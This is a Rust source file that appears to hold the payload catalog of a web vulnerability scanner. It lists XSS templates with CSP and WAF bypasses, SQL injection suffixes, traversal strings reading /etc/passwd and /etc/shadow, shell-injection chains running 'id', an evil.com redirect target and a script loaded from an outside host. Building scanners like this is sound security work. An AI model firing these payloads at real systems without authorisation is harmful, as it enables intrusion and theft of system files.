//! Built-in payload catalogs, initialised once per process

use crate::scanner::xss::XssContext;
use std::sync::OnceLock;

/// Substituted with the per-run canary in XSS templates
pub const CANARY_PLACEHOLDER: &str = "%CANARY%";

/// Marker echoed back by injected shell commands
pub const COMMAND_MARKER: &str = "pwntwomarker";

/// Target used by the open redirect probe
pub const REDIRECT_TARGET: &str = "https://evil.com";

/// Probe value used to provoke a WAF block
pub const WAF_PROBE: &str = "<script>alert('waf')</script>";

const XSS_PROBES: &[&str] = &[
    "<script>alert('xss1')</script>",
    "\"'><img src=x onerror=alert('xss2')>",
    "'><svg/onload=alert('xss3')>",
];

const SQLI_ERROR_SUFFIXES: &[&str] = &[
    "'",
    "\"",
    "';",
    "\";",
    "'--",
    "\"--",
    "'#",
    "\"#",
    " OR 1=1--",
    " OR 1=1#",
    " OR '1'='1'",
    " OR \"1\"=\"1\"",
    "' or sleep(5)--",
    "\" or sleep(5)--",
    "' OR 1=1 LIMIT 1--",
    "\" OR 1=1 LIMIT 1--",
    "admin' --",
];

const BOOLEAN_TRUE_SUFFIX: &str = "1' OR 1=1 -- ";
const BOOLEAN_FALSE_SUFFIX: &str = "1' AND 1=2 -- ";

const LFI: &[&str] = &[
    "../../../../../../../../etc/passwd",
    "..\\..\\..\\..\\..\\..\\..\\..\\windows\\win.ini",
    "../../../../../../../../windows/win.ini",
    "../../../../../../../../boot.ini",
    "../../../../../../../../etc/hosts",
    "../../../../../../../../etc/shadow",
    "/etc/passwd",
    "/windows/win.ini",
    "php://filter/convert.base64-encode/resource=index.php",
];

const PATH_TRAVERSAL: &[&str] = &[
    "../../../../../../../../etc/passwd",
    "..\\..\\..\\..\\..\\..\\..\\..\\windows\\win.ini",
    "../../../../../../../../boot.ini",
    "../../../../../../../../etc/hosts",
    "../../../../../../../../etc/shadow",
    "/etc/passwd",
    "/windows/win.ini",
];

const COMMAND_SEPARATORS: &[&str] = &[";", "|", "&&", "&"];

const XSS_HTML_BODY: &[&str] = &[
    "<svg/onload=alert('%CANARY%')>",
    "<img src=x onerror=alert('%CANARY%')>",
    "<iframe src=\"javascript:alert('%CANARY%')\"></iframe>",
    "<math href=\"javascript:alert('%CANARY%')\">CLICK",
    "<audio src/onerror=alert('%CANARY%')>",
    "<video><source onerror=\"alert('%CANARY%')\">",
    "<details open ontoggle=\"alert('%CANARY%')\">",
    "<marquee onstart=alert('%CANARY%')>",
    "<body onload=alert('%CANARY%')>",
    "<svg><script>alert('%CANARY%')</script></svg>",
    "<object data=\"javascript:alert('%CANARY%')\">",
    "<input autofocus onfocus=alert('%CANARY%')>",
    "<a href=\"javascript:alert('%CANARY%')\">X</a>",
    "<img src=\"x\" onerror=\"prompt('%CANARY%')\">",
    "<svg><a xlink:href=\"javascript:alert('%CANARY%')\">X</a></svg>",
    "<image src=\"x\" onerror=\"alert('%CANARY%')\">",
    "<svg><desc><![CDATA[</desc><script>alert('%CANARY%')</script>]]></svg>",
    "<svg><foreignObject onload=alert('%CANARY%')></svg>",
    "<isindex type=\"image\" src=\"1\" onerror=\"alert('%CANARY%')\">",
    "<img src=\"javascript:alert('%CANARY%');\">",
    "<b onmouseover=alert('%CANARY%')>MOVE</b>",
    "<div id=\"x\" style=\"position:absolute;top:0;left:0;width:100%;height:100%\" onclick=\"alert('%CANARY%')\"></div>",
    "<button formaction=\"javascript:alert('%CANARY%')\" autofocus>CLICK",
    "<math><a xlink:href=\"javascript:alert('%CANARY%')\">CLICK</a></math>",
    "<form onformdata=\"alert('%CANARY%')\"><button type=\"submit\"></form>",
    "<iframe srcdoc=\"<script>alert('%CANARY%')</script>\"></iframe>",
    "<svg><animate onbegin=alert('%CANARY%') attributeName=x dur=1s></svg>",
    "<svg><set onbegin=alert('%CANARY%') attributeName=x to=1></svg>",
];

const XSS_ATTRIBUTE: &[&str] = &[
    "\" onmouseover=alert('%CANARY%') x=\"",
    "' onmouseover=alert('%CANARY%') x='",
    "\" autofocus onfocus=alert('%CANARY%') x=\"",
    "\" onclick=alert('%CANARY%') x=\"",
    "' onclick=alert('%CANARY%') x='",
    "\" style=\"background:url(javascript:alert('%CANARY%'))\"",
    "\" style=animation-name:x onanimationstart=alert('%CANARY%') x=\"",
    "\" onanimationend=alert('%CANARY%') x=\"",
    "\" onpointerdown=alert('%CANARY%') x=\"",
    "\" onpointerup=alert('%CANARY%') x=\"",
    "\" onpointerover=alert('%CANARY%') x=\"",
    "\" onpointerenter=alert('%CANARY%') x=\"",
    "\" onpointerleave=alert('%CANARY%') x=\"",
    "\" onpointermove=alert('%CANARY%') x=\"",
    "\" ontoggle=alert('%CANARY%') x=\"",
    "\" onauxclick=alert('%CANARY%') x=\"",
    "\" ontransitionend=alert('%CANARY%') x=\"",
    "\" onbeforeprint=alert('%CANARY%') x=\"",
    "\" onafterprint=alert('%CANARY%') x=\"",
    "\" onbeforeunload=alert('%CANARY%') x=\"",
    "\" onhashchange=alert('%CANARY%') x=\"",
    "\" onlanguagechange=alert('%CANARY%') x=\"",
    "\" onmessage=alert('%CANARY%') x=\"",
    "\" onoffline=alert('%CANARY%') x=\"",
    "\" ononline=alert('%CANARY%') x=\"",
    "\" onpagehide=alert('%CANARY%') x=\"",
    "\" onpageshow=alert('%CANARY%') x=\"",
    "\" onpopstate=alert('%CANARY%') x=\"",
    "\" onstorage=alert('%CANARY%') x=\"",
    "\" onunload=alert('%CANARY%') x=\"",
];

const XSS_JS_BLOCK: &[&str] = &[
    "';alert('%CANARY%');//",
    "\";alert('%CANARY%');//",
    "';confirm('%CANARY%');//",
    "\";confirm('%CANARY%');//",
    "';prompt('%CANARY%');//",
    "\";prompt('%CANARY%');//",
    "');alert(String.fromCharCode(88,83,83))//",
    "\");alert(String.fromCharCode(88,83,83))//",
    "';window[1337]=1;//",
    "';document.write('<img src=x onerror=alert(\"%CANARY%\")>');//",
    "\";document.write('<img src=x onerror=alert('%CANARY%')>');//",
    "'-alert('%CANARY%')-",
    "\"--><svg/onload=alert('%CANARY%')>//",
];

const XSS_EVENT_HANDLER: &[&str] = &[
    "javascript:alert('%CANARY%')",
    "javascript:confirm('%CANARY%')",
    "javascript:prompt('%CANARY%')",
    "javascript:alert(String.fromCharCode(88,83,83))",
    "javascript:window.onerror=alert('%CANARY%')",
    "javascript:document.body.innerHTML='<img src=x onerror=alert(\"%CANARY%\")>'",
];

const XSS_GENERIC: &[&str] = &[
    "<script>alert('%CANARY%')</script>",
    "<img src=x onerror=alert('%CANARY%')>",
    "<svg/onload=alert('%CANARY%')>",
    "<svg><script>alert('%CANARY%')</script></svg>",
    "\"><img src=x onerror=alert('%CANARY%')>",
    "<body onload=alert('%CANARY%')>",
    "\"><svg/onload=confirm('%CANARY%')>",
    "\"><math><a href=\"javascript:alert('%CANARY%')\">CLICK",
    "<style/onload=alert('%CANARY%')>",
    "<input onfocus=alert('%CANARY%') autofocus>",
    "<iframe src=\"javascript:alert('%CANARY%');\"></iframe>",
    "<img src=1 href=1 onerror=\"alert('%CANARY%')\">",
    "<svg><desc><![CDATA[</desc><script>alert('%CANARY%')</script>]]></svg>",
    "<marquee onstart=alert('%CANARY%')>",
    "<form><button formaction=\"javascript:alert('%CANARY%')\">CLICK</button></form>",
    "<isindex type=\"image\" src=\"1\" onerror=\"alert('%CANARY%')\">",
    "<div id=x style=\"position:absolute;top:0;left:0;width:100%;height:100%\" onclick=\"alert('%CANARY%')\"></div>",
    "<math><a xlink:href=\"javascript:alert('%CANARY%')\">CLICK</a></math>",
    "<iframe srcdoc=\"<script>alert('%CANARY%')</script>\"></iframe>",
];

const XSS_CSP_BYPASS: &[&str] = &[
    "<script src='//xss.rocks/csp.js'></script>",
    "<img src=\"x:alert(1)\" onerror=eval(atob('YWxlcnQoJ2NzccKpJyk='))>",
    "<svg><script xlink:href=data:,alert(1)>",
    "<script src=data:text/javascript,alert(%27CSPBYPASS%27)>",
    "<form><button formaction=\"javascript:alert('CSPBYPASS')\">CLICK</button></form>",
    "\"><iframe srcdoc=\"<script>alert('CSPBYPASS')</script>\">",
    "<iframe src=\"data:text/html,<script>alert('CSPBYPASS')</script>\"></iframe>",
    "<script src=\"data:text/javascript;base64,YWxlcnQoJ0NTUEJZUEFTUycpKTs=\"></script>",
];

const XSS_WAF_BYPASS: &[&str] = &[
    "<sCript>alert('%CANARY%')</scriPt>",
    "<script >alert('%CANARY%')</script >",
    "<scr<script>ipt>alert('%CANARY%')</scr<script>ipt>",
    "<img src=x onerror=&#97;lert('%CANARY%')>",
    "<svg/onload=/**/alert('%CANARY%')>",
    "<svg/onload=(alert)('%CANARY%')>",
    "<svg/onload='alert(String.fromCharCode(88,83,83))'>",
    "<img src=x onerror=eval('ale'+'rt(%27%25CANARY%25%27)')>",
    "<img src=x onerror=window['al'+'ert']('%CANARY%')>",
    "<img src=x onerror=(new Function('ale'+'rt(%27%25CANARY%25%27)'))()>",
    "<img src=x onerror=top['al'+'ert']('%CANARY%')>",
    "<svg/onload=top['al'+'ert']('%CANARY%')>",
    "<svg/onload=(window['al'+'ert'])('%CANARY%')>",
    "<img src=x onerror=window[String.fromCharCode(97,108,101,114,116)]('%CANARY%')>",
    "<svg/onload=window[String.fromCharCode(97,108,101,114,116)]('%CANARY%')>",
];

/// Read-only collection of every payload list the detectors draw from
#[derive(Debug)]
pub struct PayloadCatalog {
    pub xss_probes: &'static [&'static str],
    pub sqli_error_suffixes: &'static [&'static str],
    pub lfi: &'static [&'static str],
    pub path_traversal: &'static [&'static str],
    pub command_separators: &'static [&'static str],
    pub xss_html_body: &'static [&'static str],
    pub xss_attribute: &'static [&'static str],
    pub xss_js_block: &'static [&'static str],
    pub xss_event_handler: &'static [&'static str],
    pub xss_generic: &'static [&'static str],
    pub xss_csp_bypass: &'static [&'static str],
    pub xss_waf_bypass: &'static [&'static str],
}

impl PayloadCatalog {
    /// Process-wide catalog
    pub fn global() -> &'static PayloadCatalog {
        static CATALOG: OnceLock<PayloadCatalog> = OnceLock::new();
        CATALOG.get_or_init(|| PayloadCatalog {
            xss_probes: XSS_PROBES,
            sqli_error_suffixes: SQLI_ERROR_SUFFIXES,
            lfi: LFI,
            path_traversal: PATH_TRAVERSAL,
            command_separators: COMMAND_SEPARATORS,
            xss_html_body: XSS_HTML_BODY,
            xss_attribute: XSS_ATTRIBUTE,
            xss_js_block: XSS_JS_BLOCK,
            xss_event_handler: XSS_EVENT_HANDLER,
            xss_generic: XSS_GENERIC,
            xss_csp_bypass: XSS_CSP_BYPASS,
            xss_waf_bypass: XSS_WAF_BYPASS,
        })
    }

    /// Templates suited to a reflection context
    pub fn xss_for_context(&self, context: XssContext) -> &'static [&'static str] {
        match context {
            XssContext::HtmlBody => self.xss_html_body,
            XssContext::Attribute => self.xss_attribute,
            XssContext::JsBlock => self.xss_js_block,
            XssContext::EventHandler => self.xss_event_handler,
            XssContext::Unknown => self.xss_generic,
        }
    }

    /// Error-provoking SQL payloads built on `base`
    pub fn sqli_error_payloads(&self, base: &str) -> Vec<String> {
        self.sqli_error_suffixes
            .iter()
            .map(|suffix| format!("{base}{suffix}"))
            .collect()
    }

    /// `(true, false)` condition pair for boolean-based SQL injection
    pub fn sqli_boolean_pair(&self, base: &str) -> (String, String) {
        (
            format!("{base}{BOOLEAN_TRUE_SUFFIX}"),
            format!("{base}{BOOLEAN_FALSE_SUFFIX}"),
        )
    }

    /// Shell injection payloads chained onto `ip_base`: echo-marker variants first, then `id`
    pub fn command_payloads(&self, ip_base: &str) -> Vec<String> {
        let echo = self
            .command_separators
            .iter()
            .map(|sep| format!("{ip_base}{sep}echo {COMMAND_MARKER}"));
        let id = self
            .command_separators
            .iter()
            .map(|sep| format!("{ip_base}{sep}id"));
        echo.chain(id).collect()
    }
}
